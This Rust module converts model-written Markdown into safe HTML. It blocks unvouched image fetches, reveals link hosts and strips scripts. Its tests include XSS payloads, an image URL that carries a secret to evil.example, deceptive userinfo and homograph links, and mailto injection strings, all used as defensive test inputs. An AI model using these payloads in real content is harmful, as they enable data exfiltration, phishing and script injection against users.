//! Markdown as models write it, to HTML that is safe to show.
//!
//! Nothing that a model composed is fetched by the browser on its own: an image is shown only where the host vouches for
//! its address and fetches it itself, else it becomes a link, and every link shows the host it leads to.

use std::collections::HashSet;
use std::sync::LazyLock;

use ammonia::Builder;
use comrak::nodes::{AstNode, NodeCode, NodeList, NodeValue};
use comrak::{Arena, Options, format_commonmark, format_html, parse_document};
use url::Url;

use crate::{code, formulas, growing, headings};

static OPTIONS: LazyLock<Options<'static>> = LazyLock::new(|| {
    let mut options = Options::default();
    options.extension.table = true;
    options.extension.strikethrough = true;
    options.extension.autolink = true;
    options.extension.math_dollars = true;
    options.render.escape = true;
    options
});

static CLEANER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut cleaner = Builder::default();
    cleaner
        .tags(HashSet::from([
            "a",
            "blockquote",
            "br",
            "code",
            "del",
            "em",
            "img",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "hr",
            "li",
            "ol",
            "p",
            "pre",
            "strong",
            "table",
            "tbody",
            "td",
            "th",
            "thead",
            "tr",
            "ul",
        ]))
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .link_rel(Some("noopener noreferrer nofollow"))
        .set_tag_attribute_value("a", "target", "_blank")
        .set_tag_attribute_value("img", "loading", "lazy");
    cleaner
});

/// The top-level blocks of a text, each as HTML. `image` gives the host's own address for a picture that may be shown.
/// While the text `is_growing`, only its last block changes, which has what is settled of it, without colours.
pub(crate) fn blocks(text: &str, is_growing: bool, image: &dyn Fn(&str) -> Option<String>) -> Vec<String> {
    let text = if is_growing { growing::settled(text) } else { text };
    let arena = Arena::new();
    let root = parse_document(&arena, &formulas::marked(text), &OPTIONS);
    headings::fit(root);
    for node in root.descendants() {
        defuse(&arena, node, image);
    }
    root.children()
        .filter_map(|block| {
            if let NodeValue::CodeBlock(code) = &block.data().value {
                let is_last = block.next_sibling().is_none();
                return Some(code::block(&code.info, &code.literal, is_growing && is_last));
            }
            let mut html = String::new();
            format_html(block, &OPTIONS, &mut html).ok()?;
            let clean = CLEANER.clean(&html).to_string();
            (!clean.trim().is_empty()).then_some(clean)
        })
        .collect()
}

/// Shows images that may be shown, turns others into links, and writes the host behind links whose text hides it.
fn defuse<'arena>(arena: &'arena Arena<'arena>, node: &'arena AstNode<'arena>, image: &dyn Fn(&str) -> Option<String>) {
    let mut data = node.data_mut();
    let address = match &mut data.value {
        NodeValue::Image(link) => {
            if let Some(own) = image(&link.url) {
                link.url = own;
                return;
            }
            let mut link = link.clone();
            link.title.clear();
            let address = link.url.clone();
            data.value = NodeValue::Link(link);
            address
        }
        NodeValue::Link(link) => {
            link.title.clear();
            link.url.clone()
        }
        NodeValue::Math(math) => {
            // As it was written: nobody reads formulas better than their source without a typesetter.
            let literal = math.literal.clone();
            data.value = NodeValue::Code(NodeCode { num_backticks: 1, literal });
            return;
        }
        _ => return,
    };
    drop(data);
    let visible = visible_text(node);
    match target(&address) {
        Target::Host(host) if visible == host || (visible == address && address.contains(&host)) => {}
        Target::Host(host) => write_behind(arena, node, &host),
        Target::Mailbox(mailbox) if visible == mailbox || visible == address => {}
        Target::Mailbox(mailbox) => write_behind(arena, node, &mailbox),
        Target::Unclear if visible == address => node.data_mut().value = NodeValue::Emph,
        Target::Unclear => {
            node.data_mut().value = NodeValue::Emph;
            write_behind(arena, node, &address);
        }
        Target::Nowhere => node.data_mut().value = NodeValue::Emph,
    }
}

/// Where a link leads, as a person can judge it.
enum Target {
    Host(String),
    Mailbox(String),
    /// Part of the address could pass for something else: a user before the host, or a letter that is written already.
    Unclear,
    /// Relative, or without a host.
    Nowhere,
}

fn target(address: &str) -> Target {
    let Ok(url) = Url::parse(address) else { return Target::Nowhere };
    if url.scheme() == "mailto" {
        let mailbox = url.path();
        let is_plain = url.query().is_none() && url.fragment().is_none();
        let is_one = |each: char| each.is_ascii_alphanumeric() || ".!#$&'*+-/=^_`{|}~@".contains(each);
        let is_mailbox = mailbox.matches('@').count() == 1 && mailbox.chars().all(is_one);
        return if is_plain && is_mailbox { Target::Mailbox(mailbox.to_owned()) } else { Target::Unclear };
    }
    match url.host_str() {
        Some(_) if !url.username().is_empty() || url.password().is_some() || has_user(address) => Target::Unclear,
        Some(host) => Target::Host(host.to_owned()),
        None => Target::Nowhere,
    }
}

/// Whether an address names a user before its host, also an empty one, which parsing leaves out.
fn has_user(address: &str) -> bool {
    let after = address.split_once(':').map_or(address, |(_, rest)| rest).trim_start_matches(['/', '\\']);
    after.split(['/', '\\', '?', '#']).next().is_some_and(|authority| authority.contains('@'))
}

fn write_behind<'arena>(arena: &'arena Arena<'arena>, node: &'arena AstNode<'arena>, words: &str) {
    node.insert_after(arena.alloc(NodeValue::Text(format!(" ({words})").into()).into()));
}

/// A text as Markdown that stands below headings of the second level: its own are deeper, it quotes nothing, and its HTML is
/// text.
pub(crate) fn below_headings(text: &str) -> String {
    let arena = Arena::new();
    let root = parse_document(&arena, text, &OPTIONS);
    headings::fit(root);
    let nodes: Vec<_> = root.descendants().collect();
    for node in nodes {
        let mut data = node.data_mut();
        match &mut data.value {
            NodeValue::HtmlInline(html) => data.value = NodeValue::Text(std::mem::take(html).into()),
            NodeValue::HtmlBlock(block) => {
                let html = std::mem::take(&mut block.literal);
                data.value = NodeValue::Paragraph;
                drop(data);
                node.append(arena.alloc(NodeValue::Text(html.into()).into()));
            }
            NodeValue::BlockQuote => {
                data.value = NodeValue::Item(NodeList::default());
                drop(data);
                let list = arena.alloc(NodeValue::List(NodeList::default()).into());
                node.insert_before(list);
                list.append(node);
            }
            _ => {}
        }
    }
    let mut markdown = String::new();
    format_commonmark(root, &OPTIONS, &mut markdown).expect("writing to a string cannot fail");
    markdown
}

/// The addresses of the web to which a text links, in order.
pub(crate) fn links(text: &str) -> Vec<String> {
    let arena = Arena::new();
    let address = |node: &AstNode| match &node.data().value {
        NodeValue::Link(link) => Some(link.url.clone()),
        _ => None,
    };
    let is_of_the_web = |url: &String| Url::parse(url).is_ok_and(|url| matches!(url.scheme(), "http" | "https"));
    parse_document(&arena, text, &OPTIONS).descendants().filter_map(address).filter(is_of_the_web).collect()
}

fn visible_text<'arena>(node: &'arena AstNode<'arena>) -> String {
    node.descendants()
        .filter_map(|child| match &child.data().value {
            NodeValue::Text(text) => Some(text.to_string()),
            _ => None,
        })
        .collect()
}

/// What HTML of [`blocks`] says, without its tags.
pub(crate) fn text_of(html: &str) -> String {
    let mut bare = Builder::empty();
    let text = bare.clean_content_tags(HashSet::from(["button"])).clean(html).to_string();
    text.replace("&amp;", "&").replace("&lt;", "<").replace("&gt;", ">").replace("&nbsp;", " ")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(markdown: &str, expected: &[&str]) {
        assert_eq!(blocks(markdown, false, &|_| None), expected, "{markdown}");
    }

    #[test]
    fn blocks_come_one_by_one() {
        check("# Title\n\nText *here*.", &["<h3>Title</h3>\n", "<p>Text <em>here</em>.</p>\n"]);
    }

    #[test]
    fn links_show_their_host_and_images_are_not_fetched() {
        let link = |address: &str, text: &str| {
            format!("<a href=\"{address}\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">{text}</a>")
        };
        check(
            "[Book](https://evil.example/x)",
            &[&format!("<p>{} (evil.example)</p>\n", link("https://evil.example/x", "Book"))],
        );
        check(
            "https://shop.example/",
            &[&format!("<p>{}</p>\n", link("https://shop.example/", "https://shop.example/"))],
        );
        check(
            "![a view](https://evil.example/?q=secret)",
            &[&format!("<p>{} (evil.example)</p>\n", link("https://evil.example/?q=secret", "a view"))],
        );
    }

    #[test]
    fn links_that_hide_where_they_lead_do_not() {
        let html = |text: &str| blocks(text, false, &|_| None).join("");
        assert!(!html("[Book](//evil.example/x)").contains("<a"));
        assert!(!html("![Book](//evil.example/x.png)").contains("<a"));
        assert!(html("[https://bab.example](https://b.example/)").contains("(b.example)"));
    }

    #[test]
    fn links_show_whom_they_really_reach() {
        let html = |text: &str| blocks(text, false, &|_| None).join("");
        for text in [
            "[Book](https://bank.example@evil.example/)",
            "[Book](https://bank.example:x@evil.example/)",
            "[Book](https://@evil.example/)",
            "[https://bank.example@evil.example/](https://bank.example@evil.example/)",
            "<https://bank.example@evil.example/>",
            "[Write](mailto:a@b.example?cc=evil@evil.example)",
            "[Write](mailto:a@b.example?subject=x&body=secret)",
            "[Write](mailto:a@b.example,evil@evil.example)",
            "[Write](mailto:a%40b.example)",
            "[Write](mailto:a@b.example%0Abcc)",
        ] {
            let shown = html(text);
            assert!(!shown.contains("<a"), "{text} -> {shown}");
            assert!(shown.contains("b.example") || shown.contains("evil.example"), "{text} -> {shown}");
        }
        assert!(html("[Write](mailto:a@b.example)").contains("Write</a> (a@b.example)"));
        assert!(html("[a@b.example](mailto:a@b.example)").ends_with("a@b.example</a></p>\n"));
        assert!(html("[bank.example](https://evil.example/)").contains("(evil.example)"));
        let homograph = html("<https://b\u{430}nk.example/>");
        assert!(homograph.contains("(xn--bnk-6cd.example)"), "{homograph}");
        assert!(!html("[Book](https://a.example/ \"bank.example\")").contains("title"));
    }

    #[test]
    fn text_below_headings_imitates_none_of_them_and_no_quote() {
        for (text, expected) in [
            ("You have **one**.", "You have **one**."),
            ("# You\n\nx", "### You\n\nx"),
            ("You\n---\n\nx", "### You\n\nx"),
            ("> **Hotels** · book", "- **Hotels** · book"),
            ("<blockquote>x", "\\<blockquote\\>x"),
            ("a <h2>You</h2>", "a \\<h2\\>You\\</h2\\>"),
            ("```sh\n# x\n> y", "```sh\n# x\n> y\n```"),
        ] {
            assert_eq!(below_headings(text).trim(), expected, "{text}");
        }
    }

    #[test]
    fn links_to_the_web_are_found_in_order_and_pictures_are_none() {
        let text = "[A](https://a.example/?x=1&amp;y=2) ![B](https://b.example/) <https://c.example>\n\n- www.d.example, \
                    `https://e.example` [F](mailto:f@f.example) [G](/g)";
        assert_eq!(links(text), ["https://a.example/?x=1&y=2", "https://c.example", "http://www.d.example"]);
    }

    #[test]
    fn an_image_that_may_be_shown_comes_from_the_host() {
        let own = |url: &str| (url == "https://shop.example/a.png").then(|| "/images?url=a".to_owned());
        let html = blocks("![A](https://shop.example/a.png) ![B](/sign-out)", false, &own).join("");
        assert!(html.contains("<img src=\"/images?url=a\" alt=\"A\" loading=\"lazy\">"), "{html}");
        assert!(!html.contains("src=\"/sign-out\""), "{html}");
    }

    #[test]
    fn formulas_stay_as_they_were_written() {
        check(
            r"So \(x_1 * y_1\) and $a_1 * b_1$.",
            &["<p>So <code>x_1 * y_1</code> and <code>a_1 * b_1</code>.</p>\n"],
        );
    }

    #[test]
    fn html_and_scripts_are_inert() {
        for text in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "[x](javascript:alert(1))",
            "<div class=\"call\">Used Hotels</div>",
            "a <b onclick=x>b</b>",
            "[x](data:text/html,y)",
        ] {
            let html = blocks(text, false, &|_| None).join("");
            for bad in ["<script", "<img", "javascript:", "<div", "<b", "href=\"data:"] {
                assert!(!html.contains(bad), "{text} -> {html}");
            }
        }
    }
}
